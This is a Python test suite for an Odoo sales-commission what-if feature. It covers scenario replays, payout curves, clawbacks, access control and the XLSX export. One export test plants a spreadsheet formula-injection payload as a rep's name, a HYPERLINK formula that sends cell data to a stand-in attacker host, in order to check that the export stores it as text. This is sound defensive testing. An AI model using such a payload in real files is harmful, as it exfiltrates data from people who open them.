import io
import json
from datetime import date, datetime
from unittest.mock import patch

import openpyxl

from odoo import Command
from odoo.exceptions import UserError, ValidationError
from odoo.tests import HttpCase, tagged

from .common import FEB, JAN, CommissionCase


class WhatifCase(CommissionCase):
    """Scenario "richer top" of the field sales scheme pays 15% from 100%; "leaner middle" 4%
    from 50% to 100%; with ``sell_in_january``, rep A sold 12,000 in January (120% of 10,000:
    450 paid, 550 with richer top, 400 with leaner middle), rep B 6,000 (60%: 50, 50, 40)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.finance = cls.env["res.users"].create(
            {
                "name": "Tgt Finance",
                "login": "tgt_finance",
                "groups_id": [Command.set([cls.env.ref("account.group_account_manager").id])],
            }
        )
        cls.richer = cls.scenario("Richer top", {100: 15})
        cls.leaner = cls.scenario("Leaner middle", {50: 4})

    @classmethod
    def sell_in_january(cls):
        cls.make_order(cls.rep_a, 12000, datetime(2025, 1, 15, 10))
        cls.make_order(cls.rep_b, 6000, datetime(2025, 1, 16, 10))

    @classmethod
    def scenario(cls, name, rates):
        """A scenario of the field sales scheme with the tiers starting at ``rates``' keys
        paying their values."""
        action = cls.scheme.with_user(cls.manager).action_new_scenario()
        scenario = cls.env["sales.commission.scheme"].browse(action["res_id"])
        scenario.name = name
        for tier in scenario.tier_ids:
            if tier.from_pct in rates:
                tier.rate = rates[tier.from_pct]
        return scenario

    def whatif(self, user=None, **vals):
        return (
            self.env["sales.commission.whatif"]
            .with_user(user or self.manager)
            .create(
                {
                    "name": "Try January",
                    "scheme_id": self.scheme.id,
                    "scenario_ids": [Command.set((self.richer | self.leaner).ids)],
                    "period_kind": "month",
                    "date_start": JAN[0],
                    **vals,
                }
            )
        )

    @staticmethod
    def line(whatif, user, label):
        return whatif.line_ids.filtered(
            lambda line: line.user_id == user and line.column_label == label
        )


@tagged("post_install", "-at_install")
class TestCommissionWhatif(WhatifCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.sell_in_january()

    def test_scenarios_replay_side_by_side_with_what_was_paid(self):
        whatif = self.whatif()
        whatif.action_run()
        self.assertEqual(whatif.state, "done")
        self.assertEqual((whatif.date_from, whatif.date_to), JAN)
        self.assertEqual(whatif.version_ids, self.scheme, "version 1 paid January")
        self.assertEqual(len(whatif.line_ids), 6, "2 reps x (actual + 2 scenarios)")
        actual = self.line(whatif, self.rep_a, "Actual")
        self.assertAlmostEqual(actual.amount, 450)
        self.assertEqual(actual.team_id, self.team_1)
        self.assertAlmostEqual(actual.revenue, 12000)
        self.assertAlmostEqual(actual.attainment_pct, 120)
        self.assertEqual(actual.tier_name, "100 % +")
        self.assertAlmostEqual(actual.cost_pct, 450 / 12000 * 100)
        self.assertEqual(actual.outcome, "same")
        richer = self.line(whatif, self.rep_a, "Richer top")
        self.assertEqual(richer.scenario_id, self.richer)
        self.assertAlmostEqual(richer.amount, 550)
        self.assertAlmostEqual(richer.actual_amount, 450)
        self.assertAlmostEqual(richer.difference, 100)
        self.assertAlmostEqual(richer.difference_pct, 100 / 450 * 100)
        self.assertEqual(richer.outcome, "gains")
        leaner_b = self.line(whatif, self.rep_b, "Leaner middle")
        self.assertAlmostEqual(leaner_b.amount, 40)
        self.assertEqual(leaner_b.tier_name, "50\N{EN DASH}100 %")
        self.assertEqual(leaner_b.outcome, "loses")
        self.assertEqual(self.line(whatif, self.rep_b, "Richer top").outcome, "same")
        # the totals per column of the side-by-side list
        Line = self.env["sales.commission.whatif.line"].with_user(self.manager)
        totals = dict(
            Line._read_group([("whatif_id", "=", whatif.id)], ["column_label"], ["amount:sum"])
        )
        self.assertEqual(totals, {"Actual": 500, "Richer top": 600, "Leaner middle": 440})

    def test_payout_curves_run_from_0_to_200_percent_at_the_median_target(self):
        whatif = self.whatif()
        whatif.action_run()
        self.assertEqual(whatif.reference_target, 10000)
        curve = whatif.curve_ids.filtered(lambda c: c.column_label == "Richer top")
        self.assertEqual(curve.mapped("attainment"), list(range(0, 201, 10)))
        payout = {point.attainment: point.payout for point in curve}
        self.assertEqual(payout[50], 0)
        self.assertAlmostEqual(payout[100], 250)
        self.assertAlmostEqual(payout[200], 250 + 1500)
        self.assertEqual(len(whatif.curve_ids), 3 * 21)
        action = whatif.action_open_curves()
        self.assertEqual(action["domain"], [("whatif_id", "=", whatif.id)])

    def test_finance_runs_a_whatif_too(self):
        whatif = self.whatif(user=self.finance)
        whatif.action_run()
        self.assertEqual(len(whatif.line_ids), 6)

    def test_confirmed_statements_are_what_was_actually_paid(self):
        self.confirm(self.statement(JAN))
        # sold after the statement was confirmed: the replay counts it, the pay does not
        self.make_order(self.rep_a, 3000, datetime(2025, 1, 20, 10))
        whatif = self.whatif()
        whatif.action_run()
        self.assertAlmostEqual(self.line(whatif, self.rep_a, "Actual").amount, 450)
        richer = self.line(whatif, self.rep_a, "Richer top")
        # 150% of the target: 250 + 50% of 10,000 at 15%
        self.assertAlmostEqual(richer.amount, 1000)
        self.assertAlmostEqual(richer.difference, 550)
        # rep B has no confirmed statement: what version 1 pays
        self.assertAlmostEqual(self.line(whatif, self.rep_b, "Actual").amount, 50)

    def test_a_replay_writes_nothing_a_rep_sees(self):
        statements = self.statements(JAN)
        self.env.flush_all()

        def snapshot():
            self.env.invalidate_all()
            records = [
                self.env[model].search([])
                for model in (
                    "sales.commission.statement",
                    "sales.commission.statement.line",
                    "sales.target",
                )
            ]
            messages = self.env["mail.message"].search_count(
                [("model", "in", [r._name for r in records])]
            )
            return [sorted(zip(r.ids, r.mapped("write_date"), strict=True)) for r in records], (
                messages
            )

        before = snapshot()
        self.assertTrue(statements.line_ids)
        self.whatif().action_run()
        self.assertEqual(snapshot(), before)

    def test_queries_do_not_grow_with_reps_or_months(self):
        def queries(**vals):
            whatif = self.whatif(**vals)
            whatif.action_run()
            self.env.invalidate_all()
            before = self.env.cr.sql_log_count
            whatif.action_run()
            self.env.flush_all()
            return self.env.cr.sql_log_count - before

        queries()  # the manager's access rules read once
        two = queries(coverage="users", user_ids=(self.rep_a | self.rep_b).ids)
        four = queries(
            coverage="users", user_ids=(self.rep_a | self.rep_b | self.rep_c | self.leader).ids
        )
        self.assertEqual(four, two, f"{two} queries for 2 reps, {four} for 4")
        month = queries()
        quarter = queries(period_kind="quarter")
        self.assertEqual(quarter, month, "a quarter is one statement period")
        with patch.object(
            type(self.env["res.company"]), "_sales_today", return_value=date(2025, 2, 10)
        ):
            year = queries(period_kind="last_12_months")
        self.assertLessEqual(year, 12 * month)
        self.assertEqual((year - month) % 11, 0, f"{month} for 1 month, {year} for 12")

    def test_the_last_12_months_end_with_last_month(self):
        whatif = self.whatif(period_kind="last_12_months", date_start=False)
        with patch.object(
            type(self.env["res.company"]), "_sales_today", return_value=date(2025, 4, 30)
        ):
            periods = whatif._periods()
        self.assertEqual(len(periods), 12)
        self.assertEqual(periods[0], (date(2024, 4, 1), date(2024, 4, 30)))
        self.assertEqual(periods[-1], (date(2025, 3, 1), date(2025, 3, 31)))
        quarter = self.whatif(period_kind="quarter", date_start=date(2025, 2, 14))._periods()
        self.assertEqual(quarter, [(date(2025, 2, 1), date(2025, 4, 30))])

    def test_the_export_writes_a_rep_named_like_a_formula_as_text(self):
        self.rep_a.name = '=HYPERLINK("http://evil.example/?d="&A1)'
        whatif = self.whatif()
        whatif.action_run()
        action = whatif.action_export_xlsx()
        attachment_id = int(action["url"].split("/web/content/")[1].split("?")[0])
        raw = self.env["ir.attachment"].browse(attachment_id).raw
        sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
        names = [cell for cell in sheet["A"] if cell.value == self.rep_a.name]
        self.assertEqual(len(names), 3, "the rep in each column")
        self.assertTrue(all(cell.data_type == "s" for cell in names))
        header = [cell.value for cell in sheet[1]]
        self.assertEqual(header, whatif._export_header())
        amounts = {
            row[2]: row[9]
            for row in sheet.iter_rows(min_row=2, values_only=True)
            if row[0] == self.rep_a.name
        }
        self.assertAlmostEqual(amounts["Richer top"], 550)

    def test_changing_a_done_whatif_sends_it_back_to_draft(self):
        whatif = self.whatif()
        whatif.action_run()
        whatif.scenario_ids = self.richer
        self.assertEqual(whatif.state, "draft")
        self.assertFalse(whatif.line_ids)
        with self.assert_raises_msg(UserError, "written by its replay"):
            whatif.write({"state": "done"})
        with self.assert_raises_msg(UserError, "starts as a draft"):
            self.env["sales.commission.whatif"].with_user(self.manager).create(
                {"scheme_id": self.scheme.id, "state": "done"}
            )


@tagged("post_install", "-at_install")
class TestCommissionWhatifClawback(WhatifCase):
    """January paid 250 on an order of 10,000; February took 100 back for a credit note."""

    def test_clawbacks_of_the_period_count_in_every_column(self):
        self.clawed_back_refund()
        whatif = self.whatif(date_start=FEB[0], coverage="users", user_ids=self.rep_a.ids)
        whatif.action_run()
        for label in ("Actual", "Richer top", "Leaner middle"):
            line = self.line(whatif, self.rep_a, label)
            self.assertAlmostEqual(line.amount, -100, msg=label)
            self.assertAlmostEqual(line.clawback_amount, -100, msg=label)


@tagged("post_install", "-at_install")
class TestCommissionWhatifErrors(WhatifCase):
    """Each refusal says why and leaves nothing written."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.sell_in_january()

    def assert_nothing_written(self, whatif):
        self.assertEqual(whatif.state, "draft")
        self.assertFalse(whatif.line_ids)
        self.assertFalse(whatif.curve_ids)

    def test_a_scenario_that_changes_nothing_is_refused(self):
        unchanged = self.scenario("Unchanged", {})
        whatif = self.whatif(scenario_ids=[Command.set(unchanged.ids)])
        with self.assert_raises_msg(UserError, "changes nothing"):
            whatif.action_run()
        self.assert_nothing_written(whatif)

    def test_a_period_without_data_is_refused(self):
        whatif = self.whatif(date_start=date(2024, 6, 1))
        with self.assert_raises_msg(
            UserError, "No sales, targets or statements in 2024-06 for the covered reps"
        ):
            whatif.action_run()
        self.assert_nothing_written(whatif)

    def test_no_scenario_or_more_than_three_are_refused(self):
        whatif = self.whatif(scenario_ids=[])
        with self.assert_raises_msg(UserError, "one to three scenarios"):
            whatif.action_run()
        self.assert_nothing_written(whatif)
        more = self.scenario("Third", {0: 1}) | self.scenario("Fourth", {0: 2})
        with self.assert_raises_msg(ValidationError, "at most 3 scenarios"):
            whatif.scenario_ids = self.richer | self.leaner | more
        self.assertFalse(whatif.scenario_ids)

    def test_a_scenario_of_another_scheme_is_refused(self):
        action = self.bonus_scheme().with_user(self.manager).action_new_scenario()
        other = self.env["sales.commission.scheme"].browse(action["res_id"])
        with self.assert_raises_msg(ValidationError, "is not a scenario of Field sales"):
            self.whatif(scenario_ids=[Command.set((self.richer | other).ids)])
        self.assertFalse(self.env["sales.commission.whatif"].search([]))


@tagged("post_install", "-at_install")
class TestCommissionWhatifRpc(WhatifCase, HttpCase):
    """A rep and a team leader reach no what-if, whatever they call over JSON-RPC."""

    def call(self, method, args):
        response = self.url_open(
            f"/web/dataset/call_kw/sales.commission.whatif/{method}",
            data=json.dumps(
                {
                    "jsonrpc": "2.0",
                    "method": "call",
                    "params": {
                        "model": "sales.commission.whatif",
                        "method": method,
                        "args": args,
                        "kwargs": {},
                    },
                }
            ),
            headers={"Content-Type": "application/json"},
        )
        return response.json()

    def test_reps_and_leaders_cannot_run_or_read_a_whatif(self):
        whatif = self.whatif()
        self.rep_a.password = "tgt_rep_a_secret"
        self.leader.password = "tgt_leader_secret"
        for login in ("tgt_rep_a", "tgt_leader"):
            self.authenticate(login, f"{login}_secret")
            for method, args in (
                ("action_run", [whatif.ids]),
                ("read", [whatif.ids, ["name"]]),
                ("action_export_xlsx", [whatif.ids]),
            ):
                error = self.call(method, args).get("error")
                self.assertTrue(error, f"{login}: {method} is refused")
                self.assertEqual(error["data"]["name"], "odoo.exceptions.AccessError", method)
        whatif.invalidate_recordset()
        self.assertEqual(whatif.state, "draft")
        self.assertFalse(whatif.line_ids)


@tagged("post_install", "-at_install")
class TestCommissionWhatifCompanies(WhatifCase):
    def test_a_whatif_covers_no_team_or_rep_of_another_company(self):
        other = self.env["res.company"].create({"name": "Tgt Whatif Other Co"})
        team = self.env["crm.team"].create({"name": "Other East", "company_id": other.id})
        stranger = self.env["res.users"].create(
            {
                "name": "Other Rep",
                "login": "tgt_other_rep",
                "company_id": other.id,
                "company_ids": [Command.set(other.ids)],
            }
        )
        with self.assert_raises_msg(ValidationError, "Other East is of another company"):
            self.whatif(coverage="team", team_id=team.id)
        with self.assert_raises_msg(ValidationError, "Other Rep is of another company"):
            self.whatif(coverage="users", user_ids=(self.rep_a | stranger).ids)
        whatif = self.whatif(coverage="users", user_ids=self.rep_a.ids)
        with self.assert_raises_msg(ValidationError, "Other Rep is of another company"):
            whatif.write({"user_ids": [Command.link(stranger.id)]})
        self.assertEqual(whatif.user_ids, self.rep_a)
